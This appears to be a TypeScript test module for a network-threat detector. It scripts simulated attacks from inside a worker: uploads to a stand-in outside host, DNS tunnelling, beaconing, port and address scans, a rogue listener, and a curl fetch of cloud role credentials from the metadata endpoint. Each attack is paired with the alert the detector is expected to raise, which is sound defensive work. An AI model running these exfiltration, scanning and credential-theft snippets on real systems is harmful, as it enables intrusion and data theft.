/** Attacks by the network, out of the application's own processes: scans, exfiltration, tunnels, beacons, new listeners. */
import { databaseAddress, tunnelDomain } from '../place.ts';
import { becomes, heard, inside, type Attack, type World } from '../attack.ts';

async function lair(world: World, port: number): Promise<{ address: string; port: number }> {
  const place = { address: world.stranger(), port };
  await world.outside.ask('openLair', place);
  return place;
}

async function got(world: World, place: { address: string; port: number }, bytes: number, patienceMs?: number): Promise<string> {
  await becomes(async () => (await world.outside.ask('lairReceived', place)).bytes >= bytes, `${place.address} did not get ${bytes} bytes`, patienceMs);
  return `${place.address}:${place.port} got ${bytes} bytes`;
}

export const network: readonly Attack[] = [
  {
    name: 'bulk upload to a stranger',
    kind: 'network',
    concerns: /destination|upload|egress|sent|bytes/i,
    async play(world) {
      const place = await lair(world, 443);
      await inside(world, world.worker(), `s = socket.create_connection(('${place.address}', 443))\ns.sendall(os.urandom(5_000_000))\ns.close()`);
      return got(world, place, 5_000_000);
    },
  },
  {
    name: 'slow upload to a stranger',
    kind: 'network',
    concerns: /destination|upload|egress|sent|bytes/i,
    lastsMs: 6_000,
    async play(world) {
      const place = await lair(world, 443);
      await inside(world, world.worker(), `s = socket.create_connection(('${place.address}', 443))\ndef act():\n    for _ in range(12):\n        s.sendall(os.urandom(4_000))\n        time.sleep(0.5)\n    s.close()\nthreading.Thread(target=act, daemon=True).start()`);
      return got(world, place, 8_000);
    },
  },
  {
    name: 'bulk upload to a known service',
    kind: 'network',
    concerns: /destination|upload|egress|sent|bytes|amazonaws/i,
    async play(world) {
      await inside(world, world.worker(), `import urllib.request\nurllib.request.urlopen(urllib.request.Request('http://s3.eu-west-1.amazonaws.com:443/other', data=os.urandom(20_000_000)), timeout=10).read()`);
      return 'the service took 20 MB and answered';
    },
  },
  {
    name: 'download of an unusual size',
    kind: 'network',
    concerns: /download|received|ingress|bytes|quickpay/i,
    async play(world) {
      const said = await inside(world, world.worker(), `import urllib.request\nsay(len(urllib.request.urlopen('http://api.quickpay.com:443/kit?size=30000000', timeout=10).read()))`);
      if (said !== '30000000') throw new Error(`it read ${said}`);
      return 'the worker read 30 MB';
    },
  },
  {
    name: 'new port of a known machine',
    kind: 'network',
    concerns: /2222/,
    async play(world) {
      const place = { address: databaseAddress, port: 2222 };
      await world.outside.ask('openLair', place);
      await inside(world, world.worker(), `s = socket.create_connection(('${place.address}', ${place.port}))\ns.sendall(b'SSH-2.0-x\\r\\n')\ntime.sleep(0.3)\ns.close()`);
      return heard(world, place, /SSH-2/);
    },
  },
  {
    name: 'scan of ports',
    kind: 'network',
    concerns: /scan|ports of|refus/i,
    async play(world) {
      const said = await inside(world, world.worker(), `n = 0\nfor port in range(1, 301):\n    s = socket.socket()\n    s.settimeout(0.2)\n    n += s.connect_ex(('${databaseAddress}', port)) == 111\n    s.close()\nsay(n)`);
      if (Number(said) < 290) throw new Error(`only ${said} ports were refused`);
      return `${said} ports refused`;
    },
  },
  {
    name: 'sweep of addresses',
    kind: 'network',
    concerns: /sweep|scan|destination|addresses/i,
    async play(world) {
      const said = await inside(world, world.worker(), `l = []\nfor last in range(1, 121):\n    s = socket.socket()\n    s.setblocking(False)\n    s.connect_ex(('10.77.9.%d' % last, 22))\n    l.append(s)\ntime.sleep(0.5)\nsay(open('/proc/net/tcp').read().count(':0016 02 '))\nfor s in l:\n    s.close()`);
      if (Number(said) < 100) throw new Error(`only ${said} connections were tried`);
      return `${said} connections being tried at once`;
    },
  },
  {
    name: 'tunnel through names',
    kind: 'network',
    concerns: /dns|name|tunnel/i,
    async play(world) {
      const before = await world.outside.ask('tunnelQuestions');
      await inside(world, world.worker(), `for _ in range(80):\n    try:\n        socket.getaddrinfo(os.urandom(24).hex() + '.' + os.urandom(20).hex() + '.${tunnelDomain}', None, socket.AF_INET)\n    except OSError:\n        pass\n    time.sleep(0.02)`);
      const asked = (await world.outside.ask('tunnelQuestions')) - before;
      if (asked < 60) throw new Error(`only ${asked} questions came`);
      return `the intruder's name server got ${asked} questions`;
    },
  },
  {
    name: 'beacon',
    kind: 'network',
    concerns: /beacon|destination|period/i,
    lastsMs: 8_000,
    async play(world) {
      const place = await lair(world, 8443);
      await inside(world, world.worker(), `def act():\n    for _ in range(8):\n        s = socket.create_connection(('${place.address}', 8443))\n        s.sendall(b'ping')\n        s.close()\n        time.sleep(1)\nthreading.Thread(target=act, daemon=True).start()`);
      return heard(world, place, /pingping/);
    },
  },
  {
    name: 'new port listened on',
    kind: 'network',
    concerns: /9999/,
    async play(world) {
      const said = await inside(world, world.worker(), `l = socket.create_server(('0.0.0.0', 9999))\nthreading.Timer(3, l.close).start()\nsay(open('/proc/net/tcp').read().count(':270F '))`);
      if (said === '0') throw new Error('nothing listens');
      return 'the kernel lists the listener';
    },
  },
  {
    name: "role's credentials taken by another program",
    kind: 'network',
    concerns: /credential|169\.254|curl|program/i,
    async play(world) {
      await inside(world, world.worker(), `say(subprocess.run(['/usr/bin/curl', '-s', 'http://169.254.170.2/v2/credentials/4f1c'], capture_output=True, text=True).stdout)`);
      await becomes(async () => (await world.outside.ask('readersOfCredentials')).some((agent) => agent.startsWith('curl')), 'nobody took the credentials by curl');
      return 'the endpoint was asked by curl';
    },
  },
];
